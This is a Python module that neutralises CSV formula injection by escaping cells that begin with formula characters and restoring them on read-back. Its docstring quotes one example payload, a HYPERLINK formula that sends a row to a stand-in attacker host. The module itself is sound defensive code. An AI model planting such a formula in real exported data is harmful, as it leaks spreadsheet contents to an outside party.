"""Spreadsheet-safe CSV cells: every cell the command writes to a CSV goes through `CellWriter`.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel and
LibreOffice (OWASP "CSV Injection"): a job title scraped from a profile, `=HYPERLINK("https://evil.example/?"&A2,"Open")`,
would become a live link that sends the row away. Such a cell is written with a `'` in front, as
OWASP advises: the spreadsheet shows it as text, its visible text kept. JSON Lines are not
spreadsheets and keep every value exact.

The mark is reversible, so the command reads back the files it wrote (finishing an enrich, resuming an
export) with their values exact: a cell is marked when it starts with formula characters after any run
of `'`, so `'=x` is written `''=x` and `restore` takes exactly one `'` off what `neutralise` marked.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from typing import IO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet reads as the start of a formula (OWASP's list)."""


def _marked(text: str) -> bool:
    return text.lstrip("'").startswith(FORMULA_START)


def neutralise(text: str) -> str:
    """`text` as a spreadsheet shows it as text: a `'` in front of a formula's first character."""
    return f"'{text}" if _marked(text) else text


def restore(cell: str) -> str:
    """The value `neutralise` was given for `cell`."""
    return cell[1:] if cell.startswith("'") and _marked(cell[1:]) else cell


class CellWriter:
    """A `csv.writer` whose every cell, header included, is neutralised."""

    def __init__(self, handle: IO[str]) -> None:
        self._writer = csv.writer(handle)

    def writerow(self, cells: Iterable[str]) -> None:
        self._writer.writerow([neutralise(cell) for cell in cells])


def read_cells(text: str) -> Iterator[list[str]]:
    """The rows of a CSV the command wrote (header first), each cell restored; blank lines skipped."""
    for row in csv.reader(io.StringIO(text, newline="")):
        if row:
            yield [restore(cell) for cell in row]
